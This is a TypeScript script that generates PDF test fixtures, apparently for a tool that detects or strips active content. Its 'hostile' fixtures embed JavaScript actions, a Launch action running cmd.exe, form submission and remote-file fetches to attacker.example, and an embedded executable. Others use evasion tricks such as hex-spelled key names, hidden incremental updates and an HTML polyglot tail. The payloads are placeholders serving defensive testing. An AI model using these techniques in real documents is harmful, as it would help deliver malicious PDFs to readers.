import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { buildPdf, buildStream, buildTextStream, HELVETICA_FONT } from './test-pdfs.ts'

// Generates `fixtures`. Run it by hand, with qpdf 11 and Chromium, when the set grows.

const folder = fileURLToPath(new URL('./fixtures/', import.meta.url))
const scratch = mkdtempSync(join(tmpdir(), 'pdfs-'))
const pathOf = (name: string) => join(folder, `${name}.pdf`)
const save = (name: string, bytes: Buffer) => writeFileSync(pathOf(name), bytes)
const qpdf = (from: string, to: string, ...how: string[]) =>
  execFileSync('qpdf', ['--static-id', '--warning-exit-0', ...how, pathOf(from), pathOf(to)])

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const address = '(https://attacker.example/x)'
/** The triggers of each action: opening, printing, turning the page, clicking, filling in. */
const acts: Record<string, string> = {
  script,
  address: `<</S/URI/URI${address}>>`,
  'other-file': '<</S/GoToR/F(//attacker.example/share/x.pdf)/D[0/Fit]>>',
  'other-file-within': '<</S/GoToE/F(//attacker.example/x.pdf)/T<</R/C/N(x)>>>>',
  program: '<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>',
  form: `<</S/SubmitForm/F<</FS/URL/F${address}>>>>`,
  data: '<</S/ImportData/F(//attacker.example/x.fdf)>>',
  film: `<</S/Rendition/JS(app.alert\\(1\\))/OP 0>>`,
  'next-of-another': `<</S/GoTo/D[4 0 R/Fit]/Next ${script}>>`,
}
const hostile = (act: string, page = '') =>
  buildPdf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${act}/AA<</WP ${act}>>/Names<</JavaScript<</Names[(x)8 0 R]>>>>` +
      `/Outlines 9 0 R/AcroForm<</Fields[7 0 R]/DR<<>>>>/URI<</Base${address}>>/Metadata 11 0 R>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 300 200]/Resources<</Font<</F1 6 0 R>>>>>>',
    '<</Type/Pages/Parent 2 0 R/Kids[4 0 R]/Count 1>>',
    `<</Type/Page/Parent 3 0 R/Contents 5 0 R/Annots[7 0 R 12 0 R]/AA<</O 8 0 R>>/PieceInfo<</X 8 0 R>>${page}>>`,
    buildTextStream('Glucose 5.2 mmol/l'),
    HELVETICA_FONT,
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[20 20 120 50]/F 4/AA<</K 8 0 R/F 8 0 R>>/AP<</N 13 0 R>>/A 8 0 R>>`,
    act,
    '<</Type/Outlines/First 10 0 R/Last 10 0 R/Count 1>>',
    '<</Title(x)/Parent 9 0 R/A 8 0 R>>',
    buildStream('<x:xmpmeta xmlns:x="adobe:ns:meta/">Kanarienvogel</x:xmpmeta>', '/Type/Metadata/Subtype/XML'),
    '<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[0 0 300 200]/A 8 0 R/PA 8 0 R>>',
    buildStream('0 0 1 rg 0 0 100 30 re f', '/Type/XObject/Subtype/Form/BBox[0 0 100 30]/Resources<<>>'),
  ])

for (const [name, act] of Object.entries(acts)) {
  save(`hostile-${name}`, hostile(act))
  qpdf(`hostile-${name}`, `hostile-${name}-packed`, '--object-streams=generate', '--compress-streams=y')
}
const plain = hostile(script)
const hexed = (name: string) => [...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')
save(
  'hostile-spelled',
  Buffer.from(
    plain.toString('latin1').replaceAll(/\/(JavaScript|OpenAction|JS|AA)\b/g, (_, name) => `/${hexed(name)}`),
    'latin1',
  ),
)
qpdf('hostile-script', 'hostile-lines', '--linearize', '--object-streams=generate')
qpdf('hostile-script', 'hostile-for-owner', '--encrypt', '', 'owner', '256', '--')
qpdf('hostile-script', 'password', '--encrypt', 'user', 'owner', '256', '--')
const catalog = `1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction ${script}>>\nendobj\n`
const quiet = buildPdf([
  '<</Type/Catalog/Pages 2 0 R>>',
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
  buildTextStream('Glucose 5.2 mmol/l'),
  HELVETICA_FONT,
])
const previous = quiet.indexOf('xref\n0')
const update = `${catalog}xref\n1 1\n${String(quiet.length).padStart(10, '0')} 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Prev ${previous}>>\nstartxref\n${quiet.length + catalog.length}\n%%EOF\n`
save('hostile-later', Buffer.concat([quiet, Buffer.from(update)]))
save(
  'hostile-no-table',
  Buffer.from(
    plain
      .toString('latin1')
      .replace(/xref\n0[\s\S]*trailer/, 'trailer')
      .replace(/startxref\n\d+/, 'startxref\n7'),
    'latin1',
  ),
)
save('hostile-page-too', Buffer.concat([plain, Buffer.from('<!doctype html><script>alert(1)</script>PK\x05\x06')]))
save('honest-quiet', quiet)

const attached = [
  '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>>>',
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>',
  '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
  buildStream('MZ', '/Type/EmbeddedFile'),
]
save('attachment', buildPdf(attached))
qpdf('attachment', 'attachment-packed', '--object-streams=generate')
const pinned = attached
  .with(0, '<</Type/Catalog/Pages 2 0 R>>')
  .with(
    2,
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 4 0 R>>]>>',
  )
save('attachment-pinned', buildPdf(pinned))

// Harmless PDFs from other producers.
const html = join(scratch, 'report.html')
writeFileSync(
  html,
  '<!doctype html><html lang="es"><title>Informe</title><style>h1{color:#155}td{border:1px solid #999;padding:4px}</style>' +
    '<h1>Informe de análisis</h1><table><tr><td>Glucosa<td>92 mg/dl<tr><td>Colesterol<td>181 mg/dl</table>' +
    '<p>Señales: <svg width="80" height="40"><circle cx="20" cy="20" r="18" fill="#c33" opacity=".6"/></svg></p>' +
    '<p><a href="https://clinic.example/">clinic.example</a><p style="page-break-before:always">Segunda página',
)
const chromium = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium'
execFileSync(chromium, [
  '--headless',
  '--no-sandbox',
  '--no-pdf-header-footer',
  `--print-to-pdf=${pathOf('honest-browser')}`,
  html,
])
qpdf(
  'honest-browser',
  'honest-browser-packed',
  '--object-streams=generate',
  '--compression-level=9',
  '--recompress-flate',
)
qpdf('honest-browser', 'honest-browser-lines', '--linearize')
qpdf('honest-browser', 'honest-browser-locked-for-change', '--encrypt', '', 'owner', '256', '--modify=none', '--')
/** `looks`: the appearance entries of the form. */
const filledIn = (appearance: string) =>
  buildPdf([
    `<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[7 0 R 8 0 R]${appearance}/DA(/F1 12 Tf 0 g)/DR<</Font<</F1 6 0 R>>>>>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 300 200]/Rotate 90/Resources<</Font<</F1 6 0 R>>>>>>',
    '<</Type/Page/Parent 2 0 R/Contents[4 0 R 5 0 R]/Annots[7 0 R 8 0 R 9 0 R]>>',
    buildTextStream('Allergies:'),
    buildStream('0.5 w 20 60 m 280 60 l S'),
    HELVETICA_FONT,
    '<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(Penicillin)/DA(/F1 12 Tf 0 g)/Rect[120 90 280 120]/F 4>>',
    '<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/V/Yes/AS/Yes/Rect[20 20 40 40]/F 4/AP<</N<</Yes 10 0 R/Off 11 0 R>>>>>>',
    '<</Type/Annot/Subtype/Stamp/Rect[200 10 260 70]/F 4/AP<</N 12 0 R>>>>',
    buildStream('0 0 20 20 re f', '/Type/XObject/Subtype/Form/BBox[0 0 20 20]'),
    buildStream('0 0 20 20 re S', '/Type/XObject/Subtype/Form/BBox[0 0 20 20]'),
    buildStream('1 0 0 rg 0 0 40 20 re f', '/Type/XObject/Subtype/Form/BBox[0 0 40 20]/Matrix[0 1 -1 0 0 0]'),
  ])
save('honest-ticked', filledIn(''))
// With NeedAppearances readers draw a ticked box in their own way, so this fixture has none.
const filled = filledIn('/NeedAppearances true')
  .toString('latin1')
  .replace('/Annots[7 0 R 8 0 R 9 0 R]', '/Annots[7 0 R 9 0 R]      ')
save('honest-filled-in', Buffer.from(filled, 'latin1'))
save(
  'honest-layers',
  buildPdf([
    '<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[7 0 R 8 0 R]/D<</OFF[8 0 R]/Order[7 0 R 8 0 R]>>>>>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/Properties<</On 7 0 R/Off 8 0 R>>>>>>',
    buildStream('/OC /On BDC BT /F1 18 Tf 20 100 Td (Seen) Tj ET EMC /OC /Off BDC 0 0 200 80 re f EMC'),
    HELVETICA_FONT,
    'null',
    '<</Type/OCG/Name(Seen)>>',
    '<</Type/OCG/Name(Hidden)>>',
  ]),
)
rmSync(scratch, { recursive: true })
